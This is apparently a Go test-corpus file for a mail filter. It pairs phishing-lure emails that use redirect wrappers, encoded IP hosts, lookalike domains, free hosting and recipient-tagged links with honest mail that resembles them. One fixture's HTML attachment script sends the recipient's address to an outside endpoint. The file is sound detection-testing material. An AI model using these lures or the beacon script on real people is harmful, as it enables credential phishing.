package corpus

import (
	"net/url"
	"strings"

	"github.com/kensa-milter/kensa/policy"
)

// links are the lures of issue 14 (links where gateways do not look: behind
// redirects, in hosts only a browser decodes, in QR codes) and the honest
// mail that looks like them.
func links() []Sample {
	bad := func(name, about string, a policy.Action, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: a, Want: wants}
	}
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	linkMail := func(subject, htmlBody string) mail {
		return mail{subject: subject, root: multipart("alternative", text("Please view this message in HTML.\n"), html(htmlBody))}
	}

	// --- Redirects and wrappers ---
	add(bad("url-google-redirect", "a phishing link hidden in Google's open redirect, the target percent-encoded, saying a document was shared", policy.Quarantine,
		w("heuristic", "open-redirect", "2"), w("heuristic", "redirect-url", "2"), w("heuristic", "document-share-lure", "2")),
		linkMail("Shared document", `<p>A document was shared with you: <a href="https://www.google.com/url?sa=t&amp;url=https%3A%2F%2Fdocs-share.example.net%2Fview%3Fid%3D7&amp;usg=AOvVaw">Open document</a></p>`))

	add(bad("url-wrapped-lookalike", "a lookalike of microsoft.com behind Bing's base64 redirect inside Outlook Safe Links", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2"), w("heuristic", "open-redirect", "2")),
		linkMail("Password expires today", `<p>Your password expires today. <a href="https://eur02.safelinks.protection.outlook.com/?url=`+
			url.QueryEscape("https://www.bing.com/ck/a?!&&p=1&u=a1aHR0cHM6Ly9sb2dpbi5ybmljcm9zb2Z0LmNvbS9rZWVw&ntb=1")+`&amp;data=05%7C02">Keep my password</a></p>`))

	add(bad("url-redirect-blocklisted", "a blocklisted domain behind a tracking redirect parameter", policy.Reject,
		w("heuristic", "blocklisted-url", "2"), w("heuristic", "redirect-url", "2")),
		linkMail("Your parcel", `<p><a href="https://click.mailer.example.org/c?id=9&amp;redirect=http%3A%2F%2Fmalware-drop.example%2Ftrack">Track your parcel</a></p>`))
	out[len(out)-1].Needs = "blocklist"

	// Ad clicks carry the landing page as it is: Campaign Manager after
	// ";?" in the path, Google Ads and Ad Manager in adurl=.
	add(bad("url-doubleclick-lookalike", "a lookalike of microsoft.com behind a DoubleClick Campaign Manager click (;? then the landing page)", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2"), w("heuristic", "redirect-url", "2")),
		linkMail("Password expires today", `<p>Your password expires today. <a href="https://ad.doubleclick.net/ddm/clk/532281;2291;o;?https://login.rnicrosoft.com/keep">Keep my password</a></p>`))
	add(bad("url-google-ads-lookalike", "a lookalike of microsoft.com in the adurl= of a Google Ads click", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2"), w("heuristic", "redirect-url", "2")),
		linkMail("Mailbox almost full", `<p>Your mailbox is almost full. <a href="https://www.googleadservices.com/pagead/aclk?sa=L&amp;ai=DChcSEw&amp;sig=AOD64_3k&amp;adurl=https%3A%2F%2Flogin.rnicrosoft.com%2Fquota">Add storage</a></p>`))

	// --- Hosts only a browser decodes ---
	add(bad("url-percent-encoded-ip", "a link whose host is a percent-encoded IP address (Go's URL parser refuses it, browsers open it)", policy.Tag,
		w("heuristic", "ip-url", "2")),
		linkMail("Invoice", `<p>Your invoice: <a href="http://%31%39%38.%35%31.%31%30%30.%37/invoice.php?id=7">download</a></p>`))

	add(bad("url-backslash-userinfo", "a link with backslashes and a bank's name as userinfo before an octal IP", policy.Quarantine,
		w("heuristic", "userinfo-url", "2"), w("heuristic", "ip-url", "2")),
		linkMail("Security check", `<p>Confirm at <a href="https:\\secure.bank.example@0306.0063.0144.07\login">secure.bank.example</a></p>`))

	// --- Lookalikes ---
	add(bad("url-diacritic-lookalike", "a link to paypaḷ.com with U+1E37 (l with dot below): no script mixing, and a reader sees paypal", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2")),
		linkMail("Unusual sign-in", "<p>We noticed an unusual sign-in. <a href=\"https://www.paypa\u1e37.com/signin\">Review your account</a></p>"))

	add(bad("url-typosquat", "a link to a typo-squat of microsoft.com with lure words around it", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2")),
		linkMail("Mailbox full", `<p>Your mailbox is full. <a href="https://secure-micorsoft-login.com/owa">Get more space</a></p>`))

	add(bad("url-brand-hyphen-words", "a link to a brand with words of its own hyphenated beside it, under a free hosting suffix", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2")),
		linkMail("Shared with you", `<p>Kenji shared "Q4 bonus.xlsx" with you. <a href="https://sharepoint-files-365.web.app/d/q4">Open</a></p>`))

	add(bad("url-microsoftonline-lookalike", "a link to rnicrosoftonline.com, the sign-in domain with rn for m", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2")),
		linkMail("Password expiry", `<p>Your password expires today. <a href="https://login.rnicrosoftonline.com/common/reset">Keep it</a></p>`))

	add(bad("url-brand-domain-in-front", "a link whose host starts with the real sign-in domain and ends in the attacker's", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2")),
		linkMail("Session expired", `<p>Your session expired. <a href="https://login.microsoftonline.com.auth-session.example.net/common/oauth2">Sign in again</a></p>`))

	add(bad("url-recipient-in-fragment", "a link to a page on cloud storage carrying the recipient's address in base64 after #, for the kit to fill in its sign-in form", policy.Tag,
		w("heuristic", "recipient-in-link", "2")),
		linkMail("Shared: Q4 bonus.xlsx", `<p>A file was shared with you. <a href="https://storage.googleapis.com/bkt-8823/index.html#a2VuamlAY29ycC5leGFtcGxlLmpw">View document</a></p>`))

	// --- Phishing pages on IPFS, free hosting and tunnels ---
	add(bad("url-ipfs-mailbox-full", "a mailbox-full lure to a sign-in page on IPFS through a subdomain gateway, the recipient's address after #", policy.Quarantine,
		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2"), w("heuristic", "recipient-in-link", "2")),
		linkMail("Your mailbox is full", `<p>Your mailbox kenji@corp.example.jp is 98% full. Incoming mail will be returned.</p>`+
			`<p><a href="https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/#kenji@corp.example.jp">Sign in to keep your mail</a></p>`))

	add(bad("url-ipfs-webmail-page", "a mailbox-full lure to webmail.html on IPFS through a path gateway", policy.Quarantine,
		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
		linkMail("Your mailbox is full", `<p>Your mailbox is 98% full.</p><p><a href="https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/webmail.html">Keep my mail</a></p>`))

	add(bad("url-pages-dev-sharepoint", "a SharePoint lure to a Cloudflare Pages site whose name carries the brand with a random tail, which no lookalike rule reads", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail(`Kenji shared "Q4 Payroll.xlsx" with you`, `<p>Kenji Sato shared a file with you.</p><p><a href="https://sharepoint-doc-7f3a.pages.dev/">Open in SharePoint</a></p>`))

	add(bad("url-hosting-glued-brand", "a bank lure to a Glitch app whose name glues the brand to a lure word, and a DocuSign lure to a Vercel app named with the brand and a hex tail", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail("Action required: review your statement", `<p>A new statement is ready. <a href="https://wellsfargoonline.glitch.me/">Review statement</a></p>`+
			`<p>Please also <a href="https://docusign7f3a.vercel.app/envelope">review and sign</a> the attached agreement.</p>`))

	add(bad("url-form-mailbox-lure", "a mailbox-full lure to a Microsoft Forms form: the lure is in the message's words, the link is an honest form builder's", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail("Mailbox storage notice", `<p>Your mailbox is&nbsp;full (2.0 GB of 2.0 GB).<br>Incoming mail will be<br>returned to senders.</p><p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Request more space</a></p>`))

	add(bad("url-form-lure-hidden-words", "a Portuguese mailbox-full lure to a Jotform form, its words split by a zero-width space, markup and an entity, and a Sign in to Micr0soft 365 button to another domain", policy.Quarantine,
		w("heuristic", "free-hosting-lure", "2"), w("heuristic", "brand-signin-link", "2")),
		linkMail("Aviso", "<p>A sua caixa de <b>entrada</b>&#32;est\u00e1 che\u200bia.</p><p><a href=\"https://form.jotform.com/231234567890\">Liberar espa\u00e7o</a> "+
			"ou <a href=\"https://mx-keep.example.net/owa\">Sign in to Micr0soft 365</a></p>"))

	add(bad("url-dropbox-docusign-lure", "a DocuSign envelope lure whose button opens a file shared on Dropbox", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail("Please DocuSign: Q4 agreement.pdf", `<p>Kenji Sato sent you a document to review and sign.</p><p><a href="https://www.dropbox.com/scl/fi/ab12cd/Q4-agreement.pdf?rlkey=x7k2&amp;dl=0">Review document in DocuSign</a></p>`))

	add(bad("url-published-slides-lure", "a French password-expiry lure to Google Slides published as a page", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail("Sécurité du compte", `<p>Votre mot de passe expire aujourd'hui. Conservez-le ici :</p><p><a href="https://docs.google.com/presentation/d/e/2PACX-1vQx7k2/pub?start=false">Conserver le mot de passe</a></p>`))

	add(bad("url-hosting-brand-text", "a Teams lure to an app on Vercel with a neutral name, the link's text naming the brand", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		linkMail("You have 3 unread messages", `<p>You have 3 unread messages in Microsoft Teams.</p><p><a href="https://team-chat-84aa.vercel.app/">Open Microsoft Teams</a></p>`))

	add(bad("url-bucket-brand-page", "an Adobe lure to a web page named after the brand in a Firebase storage bucket", policy.Quarantine,
		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
		linkMail("You have received a document", `<p>A PDF was shared with you via Adobe Document Cloud.</p>`+
			`<p><a href="https://firebasestorage.googleapis.com/v0/b/xyz-8823.appspot.com/o/adobe.html?alt=media&amp;token=0b1c2d3e">Open PDF</a></p>`))

	add(bad("url-tunnel-recipient", "an unusual-sign-in lure through an ngrok tunnel, the recipient's address in the query", policy.Quarantine,
		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
		linkMail("Unusual sign-in activity", `<p>We detected unusual sign-in activity.</p><p><a href="https://8f3a-203-0-113-7.ngrok-free.app/common/login?u=kenji@corp.example.jp">Review activity</a></p>`))

	add(bad("url-bucket-page-verify", "a mailbox lure to the static website container of an Azure storage account, the link's text asking to verify", policy.Quarantine,
		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
		linkMail("Verify your mailbox", `<p>Verify your mailbox to avoid suspension.</p><p><a href="https://owaverify7721.blob.core.windows.net/$web/index.html">Verify now</a></p>`))

	add(bad("html-attachment-script-to-workers", "an HTML attachment without a password field whose script sends the recipient's address to a Cloudflare Workers endpoint", policy.Tag,
		w("heuristic", "free-hosting-lure", "2")),
		mail{subject: "Incoming fax: 3 pages", root: multipart("mixed",
			text("You received a fax (3 pages). Open the attached document to view it.\n"),
			attach("text/html", "Fax_3pages.html", []byte(`<html><body><h3>Document</h3><p>Loading document...</p>`+
				`<script>fetch("https://api-7f3a.workers.dev/c",{method:"POST",body:JSON.stringify({e:"kenji@corp.example.jp"})})</script></body></html>`)))})

	// --- A brand's sign-in words to another domain ---
	add(bad("url-brand-signin-text", "a session-expired lure whose button says Sign in to Microsoft 365 and goes to the attacker's own domain, no domain shown and no free hosting", policy.Tag,
		w("heuristic", "brand-signin-link", "2")),
		linkMail("Session expired", `<p>Your session has expired.</p><p><a href="https://m365-session.example.net/owa/?id=7f3a"><b>Sign in to</b> Microsoft&nbsp;365</a></p>`))

	add(bad("url-docusign-review-text", "a DocuSign-styled envelope whose Review Document button goes to a domain that is not DocuSign's", policy.Tag,
		w("heuristic", "brand-signin-link", "2")),
		linkMail("Completed: Please DocuSign Q4 Agreement", `<p>Kenji Sato sent you a document to review and sign.</p>`+
			`<p><a href="https://secure-envelope.example.org/r/7f3a">REVIEW DOCUMENT IN DOCUSIGN</a></p>`))

	// --- A notification lure to an ordinary domain ---
	add(bad("url-document-share-lure", "a shared-file notification, its words split by markup and a zero-width space, whose table button goes to an ordinary domain", policy.Tag,
		w("heuristic", "document-share-lure", "2")),
		linkMail("Kenji Sato shared a file", `<p>Kenji Sato <b>sha</b>red a fi&#8203;le with you: Q4-payroll.xlsx</p>`+
			`<table><tr><td bgcolor="#0078d4"><a href="https://q4-files.example.net/d/7f3a">Open</a></td></tr></table>`))

	add(bad("url-voicemail-lure-recipient", "a voicemail lure in an image's alt text whose button carries the recipient's address after #", policy.Quarantine,
		w("heuristic", "document-share-lure", "2"), w("heuristic", "recipient-in-link", "2")),
		linkMail("Missed call (0:42)", `<p><img src="cid:wave" alt="New voicemail (0:42) from +1 202 555 0143"></p>`+
			`<p><a href="https://vm-play.example.org/listen#kenji@corp.example.jp">Play</a></p>`))

	add(bad("url-fax-lure-tracked", "a German fax lure naming Microsoft whose button goes through a SendGrid click tracker, sent by a stranger", policy.Tag,
		w("heuristic", "document-share-lure", "2")),
		mail{from: "Fax-Dienst <fax@office-notify.example.net>", subject: "Fax erhalten: 3 Seiten", root: multipart("alternative",
			text("Sie haben ein Fax erhalten.\n"),
			html(`<p>Microsoft Fax: Sie haben ein neues Fax erhalten (3 Seiten).</p><p><a href="https://u7731.ct.sendgrid.net/ls/click?upn=7f3a">Fax anzeigen</a></p>`))})

	add(bad("url-share-lure-decoy-links", "a shared-file lure whose View Document button goes to an ordinary domain, with five decoy links to honest sites", policy.Tag,
		w("heuristic", "document-share-lure", "2")),
		linkMail("Kenji Sato shared a file", `<p>Kenji Sato shared a file with you: Q4-payroll.xlsx</p><p><a href="https://q4-files.example.net/d/7f3a">View Document</a></p>`+
			`<p><a href="https://www.wikipedia.org/">About</a> · <a href="https://www.nytimes.com/">News</a> · <a href="https://www.weather.gov/">Weather</a> · `+
			`<a href="https://privacy.microsoft.com/privacystatement">Privacy</a> · <a href="https://www.linkedin.com/in/kenji">LinkedIn</a></p>`))

	add(bad("url-share-lure-tracked-button", "a secure-message lure naming no brand whose button goes through a click tracker on the attacker's domain, the recipient's address inside the phrase", policy.Tag,
		w("heuristic", "document-share-lure", "2")),
		linkMail("Secure message", `<p>A secure message is awaiting kenji@corp.example.jp's signature.</p><p><a href="https://click.sm-portal.example.org/?qs=ab12">View secure message</a></p>`))

	add(bad("url-share-lure-hidden-padding", "a shared-file lure after 70 KB of white text and a hidden line naming a bank", policy.Tag,
		w("heuristic", "document-share-lure", "2")),
		linkMail("Documents waiting", `<div style="position:absolute;top:0;color:#ffffff">`+strings.Repeat("Terms and conditions apply. ", 2600)+`</div>`+
			`<p>kenji@corp.example.jp, you have 3 documents waiting</p><p><a href="https://q4-files.example.net/d/9">Open</a></p>`))

	// --- Honest mail like them ---
	add(ok("notify-marketing-trackers", "newsletters about secure messages, e-signatures and voicemail through Marketo, Salesforce Marketing Cloud, HubSpot and SendGrid links on the company's tracking domains"),
		mail{from: "Acme News <news@acme-mail.example>", subject: "What's new at Acme", root: multipart("alternative",
			text("What's new at Acme.\n"),
			html(`<div style="display:none;max-height:0;overflow:hidden">Your document is ready: view document</div>`+
				`<p>Our new secure message center: your documents are ready in the portal. <a href="https://go.acme.example/dc/Zx12ab==/MjQ3LUFC">Read more</a></p>`+
				`<p>Signing your documents is now faster with e-signature. <a href="https://click.e.acme.example/?qs=9f3a">Learn more</a></p>`+
				`<p>New: voicemail transcripts. <a href="https://d2v8tf04.na1.hubspotlinks.com/Ctc/L2+113/d2v8tf04/VVxyz">See what's new</a></p>`+
				`<p>Fax received from customers now lands in your inbox. <a href="https://url4411.acme.example/ls/click?upn=abc">Read the story</a> · `+
				`<a href="https://www.acme.example/news?mkt_tok=NjQ3LUxY">All news</a></p>`))})

	add(ok("notify-share-services", "real notifications: a SharePoint share, a DocuSign envelope, a Box folder and a WeTransfer transfer, each to its service"),
		mail{from: "SharePoint Online <no-reply@sharepointonline.com>", subject: "Kenji shared Q4.xlsx with you", root: multipart("alternative",
			text("Kenji shared a file with you.\n"),
			html(`<p>Kenji Sato shared a file with you.</p><p><a href="https://corp.sharepoint.com/:x:/s/team/EabC12">Open</a></p>`+
				`<p>Please review and sign: <a href="https://na3.docusign.net/Signing/EmailStart.aspx?a=7f3a">REVIEW DOCUMENT</a></p>`+
				`<p>Kenji shared a folder with you: <a href="https://app.box.com/s/7f3a">Open in Box</a>, <a href="https://we.tl/t-7f3aB">Get your files</a></p>`))})

	add(ok("notify-own-portal-newsletter", "a company's document-ready mail to its own portal, and its newsletter about the secure message center through Mailchimp's tracker"),
		mail{from: "Acme Billing <billing@shop.example.com>", subject: "Your document is ready", root: multipart("alternative",
			text("Your document is ready.\n"),
			html(`<p>Your document is ready: <a href="https://portal.shop.example.com/docs/7">View document</a></p>`+
				`<p>New: our secure message center. <a href="https://shop.us1.list-manage.com/track/click?u=1&amp;id=2">Read more</a></p>`))})

	// --- Honest mail like them ---
	add(ok("newsletter-recipient-in-query", "a newsletter whose unsubscribe and preference links carry the recipient's address in their query"),
		linkMail("November news", `<p>News of the month.</p><p><a href="https://news.example-esp.com/unsubscribe?email=kenji%40corp.example.jp&amp;list=7">Unsubscribe</a> · `+
			`<a href="https://news.example-esp.com/prefs?e=a2VuamlAY29ycC5leGFtcGxlLmpw#top">Preferences</a></p>`))

	add(ok("url-brands-own-domains", "links to brands' own domains that glue a lure-like word on, and honest hyphenated names"),
		linkMail("Your tools", `<p>Sign the contract in <a href="https://secure.adobesign.com/public/doc">Adobe Sign</a>, `+
			`open <a href="https://www.microsoft365.com/launch/word">Word</a>, see <a href="https://www.paypal-community.com/t5/help">the community</a> `+
			`and order from <a href="https://www.office-supplies.example/paper">our supplier</a>.</p>`))

	add(ok("newsletter-tracking-redirects", "a newsletter whose links go through the sender's click tracker and Outlook Safe Links"),
		mail{from: "Example Shop <news@shop.example.com>", subject: "Autumn sale", root: multipart("alternative",
			text("Autumn sale: https://shop.example.com/sale\n"),
			html(`<p><a href="https://click.shop.example.com/c?id=1&amp;url=https%3A%2F%2Fshop.example.com%2Fsale">shop.example.com/sale</a></p>`+
				`<p><a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.org%2Fterms&amp;data=05%7C01">Terms</a></p>`))})

	add(ok("newsletter-ad-clicks", "a shop's newsletter whose links go through DoubleClick to its own site, with a partner's ad through Google Ad Manager"),
		mail{from: "Example Shop <news@shop.example.com>", subject: "Winter sale", root: multipart("alternative",
			text("Winter sale: https://shop.example.com/winter\n"),
			html(`<p><a href="https://ad.doubleclick.net/ddm/clk/441122;90817;k;?https://shop.example.com/winter">Winter sale: 30% off</a></p>`+
				`<p>Our partner: <a href="https://adclick.g.doubleclick.net/pcs/click?xai=AKAOjs&amp;sig=Cg0ArKJSzA&amp;adurl=https://www.example.org/boots">Boots for the season</a></p>`))})

	add(ok("hosting-project-docs", "a release mail linking project docs on GitHub Pages, Microsoft's handbook on its own GitHub account among them"),
		linkMail("Docs for the 2.0 release", `<p>The new docs are up: <a href="https://kensa-milter.github.io/kensa/install/">kensa-milter.github.io/kensa</a>. `+
			`The TypeScript handbook is at <a href="https://microsoft.github.io/TypeScript-New-Handbook/">Microsoft TypeScript handbook</a>.</p>`))

	add(ok("hosting-developer-demo", "a developer's mail linking a sign-in demo on Vercel, a Netlify deploy preview and an API on Render and Heroku"),
		linkMail("Demo of the login flow", `<p>Here is the demo of the new sign-in page: <a href="https://nextjs-auth-login-demo.vercel.app/login">nextjs-auth-login-demo.vercel.app</a>, `+
			`the docs preview <a href="https://deploy-preview-42--kensa-docs.netlify.app/">deploy preview 42</a>, `+
			`<a href="https://kensa-api.onrender.com/health">the API's health</a> and <a href="https://acme-billing-api.herokuapp.com/status">billing API status</a>.</p>`))

	add(ok("hosting-glued-words", "a restaurant's and a student's sites on free hosting whose names hold a brand inside an ordinary word or beside words that are no lure"),
		linkMail("Friday lunch", `<p>Menu: <a href="https://pineapple-kitchen2026.netlify.app/menu">Pineapple Kitchen</a>, order at `+
			`<a href="https://purchase-7f3a.pages.dev/">our order page</a>. Kenji's course project: <a href="https://netflixclone-demo.vercel.app/">streaming app demo</a>.</p>`))

	add(ok("brand-signin-own-domains", "mail whose links name brands beside sign-in words where the brands' own sites or an app's own button go: a SharePoint notification, an Office link, an app's Sign in with Google, an Acme account, PayPal's German site, a newsletter's Instagram and Maps links through its click tracker"),
		linkMail("Your week", `<p>Kenji shared Q4.xlsx: <a href="https://acme.sharepoint.com/sites/finance/Q4.xlsx">View on SharePoint</a>, `+
			`<a href="https://www.office.com/launch/excel">Open in Microsoft 365</a>. `+
			`<a href="https://app.acme.example/auth/google">Sign in with Google</a> or <a href="https://app.acme.example/login">Sign in to your Acme account</a>. `+
			`<a href="https://www.paypal.de/signin">Bei PayPal login</a>. `+
			`<a href="https://click.news.example/c?id=9">View on Instagram</a> · <a href="https://click.news.example/c?id=10">Open in Google Maps</a></p>`))

	add(ok("hosting-forms-and-shares", "a team mail with a Google Form for lunch, a Microsoft Forms survey on password rules, the company's site on Webflow, a Notion page, files on Dropbox and OneDrive for Business, published slides and a DocuSign envelope from docusign.net"),
		linkMail("Friday offsite", `<p>Pick your lunch: <a href="https://docs.google.com/forms/d/e/1FAIpQLSf-lunch/viewform">Lunch form</a>. `+
			`IT asks what you think of the new password rules: <a href="https://forms.office.com/r/Ab12Cd34Ef">survey</a>. `+
			`Our new site: <a href="https://acme-studio.webflow.io/">acme-studio.webflow.io</a>; the agenda is on <a href="https://acme.notion.site/Offsite-2026-7f3a9c">Notion</a>. `+
			`Photos: <a href="https://www.dropbox.com/scl/fi/zz99/photos.zip?dl=0">Open in Dropbox</a>, the budget <a href="https://acme-my.sharepoint.com/:x:/g/personal/kenji_acme_example/EaBcD">View in SharePoint</a>, `+
			`the slides <a href="https://docs.google.com/presentation/d/e/2PACX-1vAll/pub">Q3 all-hands</a>. `+
			`The venue contract: <a href="https://na3.docusign.net/Signing/EmailStart.aspx?a=7f3a">Review document in DocuSign</a>.</p>`))

	add(ok("hosting-bucket-files", "a dataset release linking files in Google Cloud Storage and S3 buckets, Google's own archive among them"),
		linkMail("Dataset release", `<p>The dataset is at <a href="https://storage.googleapis.com/public-datasets-research/2026/survey.csv">survey.csv</a> and the report at `+
			`<a href="https://storage.googleapis.com/public-datasets-research/2026/report.pdf">the report</a>. The old tool: `+
			`<a href="https://storage.googleapis.com/google-code-archive-downloads/v2/code.google.com/tools/tool-1.0.zip">download</a>; `+
			`checksums: <a href="https://acme-releases.s3.amazonaws.com/v2.1/SHA256SUMS">SHA256SUMS</a>.</p>`))

	add(ok("hosting-event-site", "an offsite invitation linking a Google Sites page, an office-hours page, a Microsoft Forms survey and a Google Form"),
		linkMail("Team offsite 2026", `<p>Agenda and travel details: <a href="https://sites.google.com/view/team-offsite-2026/home">offsite site</a>. `+
			`Office hours: <a href="https://sites.google.com/view/office-hours-2026">Office hours</a>. `+
			`Sign up: <a href="https://forms.office.com/r/Ab12Cd34Ef">Lunch survey</a> or <a href="https://docs.google.com/forms/d/e/1FAIpQLSf-example/viewform">Google Form</a>.</p>`))

	add(ok("hosting-firebase-verify", "Firebase's address verification mail: from the app's own firebaseapp.com site, to its sign-in action page there"),
		mail{from: "noreply@acme-app-12345.firebaseapp.com", subject: "Verify your email for Acme", root: multipart("alternative",
			text("Follow this link to verify your email address.\nhttps://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&oobCode=AbCdEf&apiKey=AIzaSyExample&lang=en\n"),
			html(`<p>Hello,</p><p>Follow this link to verify your email address.</p>`+
				`<p><a href="https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&amp;oobCode=AbCdEf&amp;apiKey=AIzaSyExample&amp;lang=en">`+
				`https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&amp;oobCode=AbCdEf</a></p>`))})

	add(ok("idn-domain", "a link to an honest internationalised domain name"),
		linkMail("Buchbestellung", `<p>Ihre Bestellung bei <a href="https://www.bücher-müller.example/bestellung/42">bücher-müller.example</a> ist unterwegs.</p>`))
	return out
}
